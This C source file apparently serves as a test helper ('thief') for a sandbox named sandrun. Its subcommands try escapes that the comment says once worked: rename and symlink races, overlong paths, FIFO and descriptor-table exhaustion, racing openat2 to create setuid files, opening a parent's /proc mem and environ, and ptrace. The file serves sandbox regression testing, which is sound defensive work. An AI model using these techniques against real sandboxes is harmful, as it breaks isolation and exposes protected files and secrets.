// thief tries, in the sandbox, to get more than was granted; each way has once worked.
//
//   thief deep       gets files written only into what may be read, by names that are
//                    longer than a path may be
//   thief closed     the same, below a directory that nobody may search
//   thief moved      by putting another directory in the place of a readable one
//   thief swap       by moving a directory away and putting another file into it, while
//                    another thread opens what was there
//   thief queued AREA  the same, while the open waits for its turn to wait for a FIFO's
//                    partner; what begins with AREA may be read
//   thief full AREA  the same, while sandrun counts a full table of descriptors
//   thief brought DIR by moving DIR, which may be read itself, into a readable directory
//                    that was moved
//   thief stale DIR  by moving DIR out of a new directory with a readable one's name
//   thief unlinked   through the descriptor of a name that was removed
//   thief back       as full, but the directory is moved back below another parent
//   thief between    by a rename into what may be read, while another thread puts another
//                    file in the place of the first
//   thief setid      by openat2 whose mode another thread rewrites
//   thief hide FILE  opens it after its memory has become unreadable for others
//   thief exec FILE  executes it
//   thief run FILE   executes a file through a descriptor of it
//   thief parent     opens what is in /proc of the threads of its parent, by openat2
//   thief trace FILE does what is not granted while a child traces it, and says how
//                    long the child lives
//
// It works in the current directory and prints what it got, a line each.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static void tell(const char *what, long got) {
	printf("%s: %s\n", what, got < 0 ? strerrorname_np(errno) : "ok");
	fflush(stdout);
}

static int open2(int dir, const char *path, unsigned long flags) {
	struct open_how how = {.flags = flags};
	return syscall(SYS_openat2, dir, path, &how, sizeof how);
}

// dig makes a chain of directories and returns the last.
static int dig(const char *base, int depth) {
	int d = open(base, O_PATH | O_DIRECTORY);
	while (depth-- > 0) {
		mkdirat(d, "a", 0755);
		int next = openat(d, "a", O_PATH | O_DIRECTORY);
		close(d);
		d = next;
	}
	return d;
}

static void deep(void) {
	mkdir("deep", 0755);
	int d = dig("deep", 2100), e = dig("read", 1500);
	tell("rename", rename("secret", "name"));
	renameat(AT_FDCWD, "secret", d, "x");
	renameat(d, "x", AT_FDCWD, "name");
	linkat(AT_FDCWD, "secret", d, "y", 0);
	linkat(d, "y", AT_FDCWD, "name2", 0);
	tell("renameat", renameat(AT_FDCWD, "secret", e, "x"));
	tell("linkat", linkat(AT_FDCWD, "secret", e, "y", 0));
	tell("open name", open("name", O_RDONLY));
	tell("open name2", open("name2", O_RDONLY));
	tell("openat", openat(e, "x", O_RDONLY));
}

static void closed(void) {
	int d = dig("read", 3);
	chmod("read/a", 0);
	tell("renameat", renameat(AT_FDCWD, "secret", d, "x"));
	tell("linkat", linkat(AT_FDCWD, "secret", d, "y", 0));
	chmod("read/a", 0755);
	tell("open", open("read/a/a/a/x", O_RDONLY));
}

static void moved(void) {
	tell("rename", rename("read", "other"));
	tell("rename", rename("write", "read"));
	tell("open", open("read/secret", O_RDONLY));
	tell("openat2", open2(AT_FDCWD, "read/secret", O_RDONLY));
	tell("list", open2(AT_FDCWD, "read", O_RDONLY | O_DIRECTORY));
	tell("linkat", linkat(AT_FDCWD, "read/secret", AT_FDCWD, "other/x", 0));
	tell("renameat", rename("read/secret", "other/x"));
}

static void put(const char *path, const char *content) {
	int fd = open(path, O_WRONLY | O_CREAT, 0644);
	if (fd < 0 || write(fd, content, 1) != 1) exit(2);
	close(fd);
}

enum { rounds = 400 };
static volatile int turn;

static void *swaps(void *x) {
	unsigned seed = 1;
	for (int i = 1; i <= rounds; i++) {
		while (__atomic_load_n(&turn, __ATOMIC_SEQ_CST) != i) sched_yield();
		seed = seed * 1103515245 + 12345;
		for (volatile unsigned n = seed >> 16 & 0x7fff; n > 0; n--) {}
		if (rename("read/d", "write/d") < 0 || rename("write/secret", "write/d/file") < 0) exit(3);
		__atomic_store_n(&turn, -i, __ATOMIC_SEQ_CST);
	}
	return x;
}

static void swap(void) {
	pthread_t t;
	int allowed = 0, leaked = 0;
	if (pthread_create(&t, NULL, swaps, NULL)) exit(2);
	for (int i = 1; i <= rounds; i++) {
		if (mkdir("read/d", 0755) < 0) exit(2);
		put("read/d/file", "R"), put("write/secret", "S");
		__atomic_store_n(&turn, i, __ATOMIC_SEQ_CST);
		while (__atomic_load_n(&turn, __ATOMIC_SEQ_CST) == i) {
			char b = 0;
			// O_CREAT makes sandrun look at more before it opens.
			int fd = open2(AT_FDCWD, "read/d/file", O_RDONLY | O_CREAT);
			if (fd < 0) continue;
			if (read(fd, &b, 1) == 1 && b == 'S') leaked++;
			else allowed++;
			close(fd);
		}
		if (unlink("write/d/file") < 0 || rmdir("write/d") < 0) exit(2);
	}
	pthread_join(t, NULL);
	printf("%s; leaked %d\n", allowed > rounds / 100 ? "met" : "never met", leaked);
}

static volatile struct open_how how = {.flags = O_WRONLY | O_CREAT, .mode = 0755};
static volatile int done;

static void *rewrite(void *x) {
	for (unsigned i = 0; !done; i++) {
		how.mode = i & 1 ? 04755 : 0755;
		for (volatile unsigned n = i * 2654435761u >> 22; n > 0; n--) {}
	}
	return x;
}

static void setid(void) {
	pthread_t t;
	int made = 0, odd = 0;
	if (pthread_create(&t, NULL, rewrite, NULL)) exit(2);
	for (int i = 0; i < 3000; i++) {
		struct stat st;
		int fd = syscall(SYS_openat2, AT_FDCWD, "made", &how, sizeof how);
		if (fd < 0) continue;
		made++;
		if (fstat(fd, &st) == 0 && st.st_mode & 06000) odd++;
		close(fd);
		unlink("made");
	}
	done = 1;
	pthread_join(t, NULL);
	printf("%s; setuid %d\n", made ? "made" : "none", odd);
}

static void run(const char *file) {
	char *argv[] = {"thief", NULL};
	int fd = open(file, O_RDONLY);
	tell("open", fd);
	execve(file, argv, argv);
	tell("execve", -1);
	syscall(SYS_execveat, fd, "", argv, argv, AT_EMPTY_PATH);
	tell("execveat", -1);
}

static void parent(void) {
	static const char *const names[] = {"mem", "environ"};
	char path[64];
	for (int tid = getppid(); tid < getppid() + 8; tid++)
		for (int i = 0; i < 2; i++) {
			snprintf(path, sizeof path, "/proc/%d/%s", tid, names[i]);
			if (tid != getpid() && open2(AT_FDCWD, path, i ? O_RDONLY : O_RDWR) >= 0) printf("opened %s\n", path);
		}
	puts("done");
}

static void trace(const char *file) {
	int p[2];
	char c;
	if (pipe(p) < 0) exit(2);
	if (fork() == 0) {
		tell("trace", ptrace(PTRACE_SEIZE, getppid(), 0, 0));
		if (write(p[1], "x", 1) != 1) _exit(2);
		sleep(20);
		tell("alive", 0);
		_exit(0);
	}
	if (read(p[0], &c, 1) != 1) exit(2);
	tell("open", open(file, O_RDONLY));
}

static void hide(const char *file) {
	tell("hide", prctl(PR_SET_DUMPABLE, 0));
	tell("open", open(file, O_RDONLY));
}

static const char *area;
static const char *in_area(const char *name) {
	static char pool[8][256];
	static int next;
	char *p = pool[next++ % 8];
	snprintf(p, sizeof pool[0], "%s%s", area, name);
	return p;
}
static int holds_secret(int fd) {
	char b = 0;
	int n = fd < 0 ? 0 : read(fd, &b, 1);
	if (fd >= 0) close(fd);
	return n == 1 && b == 'S';
}
static void *wait_for_writer(void *x) { return open2(AT_FDCWD, in_area("fifo"), O_RDONLY), x; }
static void *open_in_directory(void *flags) {
	struct open_how how = {.flags = (long)flags, .mode = (long)flags & O_CREAT ? 0600 : 0};
	return (void *)syscall(SYS_openat2, AT_FDCWD, in_area("d/x"), &how, sizeof how);
}
static void move_away(void) {
	if (rename(in_area("d"), "write/d") < 0 || rename("write/secret", "write/d/x") < 0) exit(3);
}

static void queued(void) {
	enum { slots = 250 }; // nearly all that sandrun has for opens that block
	pthread_t t;
	void *fd = (void *)-1;
	if (mkfifo(in_area("fifo"), 0600) || mkdir(in_area("d"), 0700) || mkfifo(in_area("d/x"), 0600)) exit(2);
	for (int i = 0; i < slots; i++) if (pthread_create(&t, NULL, wait_for_writer, NULL)) exit(2);
	usleep(200000);
	if (pthread_create(&t, NULL, open_in_directory, (void *)O_RDONLY)) exit(2);
	usleep(200000);
	move_away();
	if (open(in_area("fifo"), O_WRONLY | O_NONBLOCK) < 0) exit(4);
	for (int ms = 0; ms < 1000 && pthread_tryjoin_np(t, &fd) != 0; ms++) usleep(1000); // it may wait for ever
	printf("leaked %d\n", holds_secret((long)fd));
	fflush(stdout);
	_exit(0);
}

static void full(void) {
	struct rlimit most = {1024, 1024};
	int leaked = 0;
	if (setrlimit(RLIMIT_NOFILE, &most)) exit(2);
	while (dup(0) >= 0) {}
	for (int i = 1; i <= 8; i++) close(1024 - i);
	for (int i = 0; i < 100; i++) {
		pthread_t t;
		void *fd;
		put("write/secret", "S");
		if (mkdir(in_area("d"), 0755)) exit(2);
		if (pthread_create(&t, NULL, open_in_directory, (void *)(O_RDONLY | O_CREAT))) exit(2);
		usleep(i * 10);
		move_away();
		pthread_join(t, &fd);
		leaked += holds_secret((long)fd);
		unlink("write/d/x"), unlink(in_area("d/x")), rmdir("write/d"), rmdir(in_area("d"));
	}
	printf("leaked %d\n", leaked);
}

static void got(const char *path) { printf("leaked %d\n", holds_secret(open(path, O_RDONLY))); }

static void brought(const char *dir) {
	char path[256];
	if (rename("read", "write/q") || mkdir(dir, 0755)) exit(2);
	snprintf(path, sizeof path, "%s/x", dir);
	if (rename("write/secret", path)) exit(3);
	rename(dir, "write/q/d");
	got("write/q/d/x");
}
static void stale(const char *dir) {
	char path[256];
	if (rename("read", "write/q") || mkdir("read", 0755) || mkdir(dir, 0755)) exit(2);
	snprintf(path, sizeof path, "%s/x", dir);
	if (rename("write/secret", path)) exit(3);
	rename(dir, "pubx");
	got("pubx/x");
}
static void unlinked(void) {
	char path[64];
	if (link("write/secret~", "write/z~") < 0) exit(2);
	int fd = open("write/z~", O_PATH);
	unlink("write/z~");
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	got(path);
}
static void back(void) {
	struct rlimit most = {1024, 1024};
	int leaked = 0;
	if (setrlimit(RLIMIT_NOFILE, &most)) exit(2);
	while (dup(0) >= 0) {}
	for (int i = 1; i <= 8; i++) close(1024 - i);
	area = "read/";
	for (int i = 0; i < 100; i++) {
		pthread_t t;
		void *fd;
		put("write/secret", "S");
		if (mkdir("read/d", 0755) || pthread_create(&t, NULL, open_in_directory, (void *)(O_RDONLY | O_CREAT))) exit(2);
		usleep(i * 10);
		if (rename("read/d", "write/d") || rename("read", "write/old") || mkdir("read", 0755)) exit(3);
		rename("write/secret", "write/d/x"), rename("write/d", "read/d");
		pthread_join(t, &fd);
		leaked += holds_secret((long)fd);
		unlink("read/d/x"), rmdir("read/d"), unlink("write/d/x"), rmdir("write/d"), rmdir("read");
		unlink("write/old/d/x"), rmdir("write/old/d");
		if (rename("write/old", "read")) exit(4);
	}
	printf("leaked %d\n", leaked);
}

static char bottom[4096]; // a path that takes long to judge
static volatile int hogging, ready;
static void *hog(void *x) { while (hogging) {} return x; }
static void *move_down(void *x) { (void)x; while (!ready) {} return (void *)(long)rename("pubq/x", bottom); }
static void *move_between(void *x) {
	while (!ready) {}
	usleep(700);
	if (rename("pubq", "write/q") == 0) rename("write/secret", "write/q/x");
	return x;
}

static void between(void) {
	pthread_t t, u;
	int leaked = 0;
	strcpy(bottom, "pubdeep");
	mkdir(bottom, 0755);
	for (int i = 0; i < 1300; i++) strcat(bottom, "/a"), mkdir(bottom, 0755);
	strcat(bottom, "/y");
	hogging = 1; // so that one call is slow enough for sandrun to serve by two threads
	for (int i = 0; i < 8; i++) if (pthread_create(&t, NULL, hog, NULL)) exit(2);
	mkdir("pubq", 0755);
	for (int i = 0; i < 6; i++) {
		put("pubq/x", "R");
		ready = 0;
		if (pthread_create(&t, NULL, move_down, NULL)) exit(2);
		ready = 1;
		for (int j = 0; j < 30; j++) rename("write/nothing", "write/none");
		pthread_join(t, NULL);
		unlink(bottom);
	}
	hogging = 0;
	for (int i = 0; i < 20; i++) {
		put("write/secret", "S"), mkdir("pubq", 0755), put("pubq/x", "R");
		ready = 0;
		if (pthread_create(&t, NULL, move_down, NULL) || pthread_create(&u, NULL, move_between, NULL)) exit(2);
		usleep(1000);
		ready = 1;
		pthread_join(t, NULL), pthread_join(u, NULL);
		leaked += holds_secret(open(bottom, O_RDONLY));
		unlink(bottom), unlink("write/q/x"), rmdir("write/q");
	}
	printf("leaked %d\n", leaked);
}

int main(int argc, char **argv) {
	const char *way = argc > 1 ? argv[1] : "";
	if (strcmp(way, "deep") == 0) deep();
	else if (strcmp(way, "closed") == 0) closed();
	else if (strcmp(way, "moved") == 0) moved();
	else if (strcmp(way, "swap") == 0) swap();
	else if (strcmp(way, "between") == 0) between();
	else if (strcmp(way, "brought") == 0 && argc > 2) brought(argv[2]);
	else if (strcmp(way, "stale") == 0 && argc > 2) stale(argv[2]);
	else if (strcmp(way, "unlinked") == 0) unlinked();
	else if (strcmp(way, "back") == 0) back();
	else if (strcmp(way, "queued") == 0 && argc > 2) area = argv[2], queued();
	else if (strcmp(way, "full") == 0 && argc > 2) area = argv[2], full();
	else if (strcmp(way, "setid") == 0) setid();
	else if (strcmp(way, "parent") == 0) parent();
	else if (strcmp(way, "hide") == 0 && argc > 2) hide(argv[2]);
	else if (strcmp(way, "exec") == 0 && argc > 2) execl(argv[2], argv[2], NULL);
	else if (strcmp(way, "run") == 0 && argc > 2) run(argv[2]);
	else if (strcmp(way, "trace") == 0 && argc > 2) trace(argv[2]);
	else return 2;
	return 0;
}
